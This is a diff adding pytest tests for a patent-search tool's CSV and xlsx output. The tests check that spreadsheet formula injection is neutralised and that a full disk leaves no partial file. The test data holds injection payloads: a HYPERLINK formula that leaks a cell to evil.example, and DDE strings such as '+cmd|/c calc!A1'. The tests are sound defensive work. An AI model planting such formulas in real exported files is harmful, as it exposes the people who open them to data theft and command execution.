@@ -1,0 +1,159 @@
+"""Result files that are safe to open and whole (issue 24).
+
+- CSV formula injection: a cell beginning with = + - @, a tab or a carriage return is
+  what a spreadsheet runs as a formula (``+cmd|/c calc!A1``, ``=HYPERLINK(...)``); CSV
+  output (``--output x.csv`` and ``--format csv``) writes it with a leading ``'`` as OWASP
+  recommends, numbers stay numbers, and ``--keep-formulas`` turns it off.  ``.xlsx`` output
+  stores such cells as text (openpyxl would write ``=...`` as a formula).
+- A full disk: ``--output`` leaves no empty or half-written file and no traceback, and
+  standard output on a full device (``> /dev/full``) is one line, exit 1.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import io
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from patentsim.ingest import pipeline
+from patentsim.ingest.cli import cli as ingest_cli
+from patentsim.ingest.pipeline import load
+from patentsim.search.cli import cli as search_cli
+from patentsim.search.render import as_text_cell
+
+from .conftest import ROOT
+from .fakes import FakeEmbedder
+from .faults import FILLER, fill, small_disk  # noqa: F401 (a fixture)
+
+EVIL = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "cmd": "+cmd|/c calc!A1",
+    "at": "@SUM(1,2)",
+    "dash": "-2+3+cmd|/c calc!A1",
+}
+
+
+@pytest.fixture
+def store(tmp_path, monkeypatch):
+    monkeypatch.setattr(pipeline, "load", functools.partial(load, embedder=FakeEmbedder()))
+    path = tmp_path / "evil.csv"
+    with open(path, "w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["id", "abstract", "delta", *EVIL])
+        for i in range(3):
+            w.writerow([i, f"abstract {i} about a battery cooling loop", -5 - i, *EVIL.values()])
+    result = CliRunner().invoke(ingest_cli, ["load", str(path), "--id", "id", "-c", "e"])
+    assert result.exit_code == 0, result.output
+    return tmp_path
+
+
+def search(*args: str):
+    result = CliRunner().invoke(search_cli, [*args, "-c", "e"])
+    assert result.exit_code == 0, result.output
+    return result
+
+
+def rows_of(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def test_csv_cells_that_would_run_as_formulas_are_made_text(store):
+    out = store / "r.csv"
+    search("like", "0", "--output", str(out))
+    stdout = search("like", "0", "--format", "csv").stdout
+    for text in (out.read_text(encoding="utf-8-sig"), stdout):
+        rows = rows_of(text)
+        assert len(rows) == 2
+        for row in rows:
+            for name, value in EVIL.items():
+                assert row[name] == "'" + value, (name, row[name])
+            assert row["delta"] in ("-6", "-7"), "a number typed as a number stays a number"
+            assert row["rank"] in ("1", "2")
+
+
+def test_keep_formulas_writes_them_as_they_are(store):
+    out = store / "raw.csv"
+    search("like", "0", "--output", str(out), "--keep-formulas")
+    for row in rows_of(out.read_text(encoding="utf-8-sig")):
+        for name, value in EVIL.items():
+            assert row[name] == value
+
+
+def test_facets_csv_too(store):
+    result = search("facets", "at", "--format", "csv")
+    assert rows_of(result.stdout) == [{"at": "'" + EVIL["at"], "count": "3"}]
+
+
+def test_xlsx_stores_them_as_text_not_formulas(store):
+    out = store / "r.xlsx"
+    search("like", "0", "--output", str(out))
+    ws = openpyxl.load_workbook(out).active
+    header = [c.value for c in ws[1]]
+    row = {h: c for h, c in zip(header, ws[2])}
+    for name, value in EVIL.items():
+        assert row[name].value == value and row[name].data_type == "s", name
+    assert row["delta"].value in (-6, -7) and row["delta"].data_type == "n"
+
+
+def test_the_rule_itself():
+    assert as_text_cell("=1+1") == "'=1+1"
+    assert as_text_cell("\r=1") == "'\r=1"
+    assert as_text_cell("plain") == "plain"
+    assert as_text_cell(-5) == -5 and as_text_cell(-2.5) == -2.5
+    assert as_text_cell("") == ""
+
+
+# -- a full disk ------------------------------------------------------------------------------
+
+
+def _env() -> dict[str, str]:
+    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"), HF_HUB_OFFLINE="1")
+    env.pop("QDRANT_URL", None)
+    return env
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this system")
+def test_standard_output_on_a_full_device_is_one_line(store):
+    with open("/dev/full", "w") as full:
+        done = subprocess.run(
+            [sys.executable, "-m", "patentsim.search", "like", "0", "-c", "e", "--format", "csv"],
+            stdout=full,
+            stderr=subprocess.PIPE,
+            text=True,
+            env=_env(),
+            timeout=120,
+            check=False,
+        )
+    assert done.returncode == 1, done.stderr
+    assert "Error: cannot write the standard output: the disk holding it is full" in done.stderr
+    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx", "jsonl"])
+def test_output_on_a_full_disk_leaves_no_file(store, suffix, small_disk):  # noqa: F811
+    disk = small_disk(4 << 20)
+    old = disk / f"old.{suffix}"
+    old.write_bytes(b"what was there")
+    fill(disk, 0)
+    for target in (disk / f"new.{suffix}", old):
+        done = subprocess.run(
+            [sys.executable, "-m", "patentsim.search", "like", "0", "-c", "e", "-o", str(target)],
+            capture_output=True,
+            text=True,
+            env=_env(),
+            timeout=120,
+            check=False,
+        )
+        assert done.returncode == 1, done.stderr
+        assert f"Error: --output {target}: the disk holding it is full" in done.stderr
+        assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
+        assert sorted(p.name for p in disk.iterdir()) == sorted([FILLER, old.name])
+    assert old.read_bytes() == b"what was there"
